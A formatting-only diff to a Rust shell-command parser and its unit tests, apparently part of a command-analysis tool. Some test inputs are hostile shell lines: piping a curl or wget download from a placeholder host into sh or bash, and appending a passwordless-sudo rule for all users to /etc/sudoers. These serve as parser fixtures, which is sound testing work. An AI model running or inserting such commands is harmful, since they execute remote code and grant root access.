@@ -165,9 +165,7 @@ fn is_assignment(w: &str) -> bool {
             let name = name.strip_suffix(b"+").unwrap_or(name);
             !name.is_empty()
                 && !name[0].is_ascii_digit()
-                && name
-                    .iter()
-                    .all(|&c| c.is_ascii_alphanumeric() || c == b'_')
+                && name.iter().all(|&c| c.is_ascii_alphanumeric() || c == b'_')
         }
         _ => false,
     }
@@ -339,12 +337,8 @@ impl<'a> Parser<'a> {
         };
         if kind == RedirectKind::HereDoc {
             let delimiter = target.trim().to_owned();
-            self.heredocs.push((
-                usize::MAX,
-                self.cur.redirects.len(),
-                delimiter,
-                strip_tabs,
-            ));
+            self.heredocs
+                .push((usize::MAX, self.cur.redirects.len(), delimiter, strip_tabs));
             self.cur.redirects.push(Redirect {
                 kind,
                 target: Cow::Borrowed(""),
@@ -674,7 +668,12 @@ mod tests {
             .collect();
         assert_eq!(
             pipes,
-            [(0, false, true), (0, true, false), (1, false, false), (2, false, false)]
+            [
+                (0, false, true),
+                (0, true, false),
+                (1, false, false),
+                (2, false, false)
+            ]
         );
     }
 
@@ -702,7 +701,11 @@ mod tests {
     #[test]
     fn substitutions_are_found_and_kept() {
         let s = parse("sh -c \"$(curl -fsSL https://x.sh)\"; echo `whoami`; bash <(wget -qO- y)");
-        let bodies: Vec<_> = s.substitutions.iter().map(|x| (x.body, x.process)).collect();
+        let bodies: Vec<_> = s
+            .substitutions
+            .iter()
+            .map(|x| (x.body, x.process))
+            .collect();
         assert_eq!(
             bodies,
             [
@@ -720,7 +723,8 @@ mod tests {
 
     #[test]
     fn redirections_keep_their_targets() {
-        let s = parse("echo 'ALL ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers 2>&1; cat < in.txt > out.txt");
+        let s =
+            parse("echo 'ALL ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers 2>&1; cat < in.txt > out.txt");
         let c = &s.commands[0];
         assert_eq!(c.words, ["echo", "ALL ALL=(ALL) NOPASSWD:ALL"]);
         assert_eq!(c.redirects[0].kind, RedirectKind::Append);
@@ -754,7 +758,11 @@ mod tests {
         assert_eq!(s.commands[0].words, ["env"]);
         assert_eq!(
             words_of(&s)[1..],
-            [vec!["true"], vec!["rm", "-rf", "/tmp/x"], vec!["sudo", "ls"]]
+            [
+                vec!["true"],
+                vec!["rm", "-rf", "/tmp/x"],
+                vec!["sudo", "ls"]
+            ]
         );
     }
 
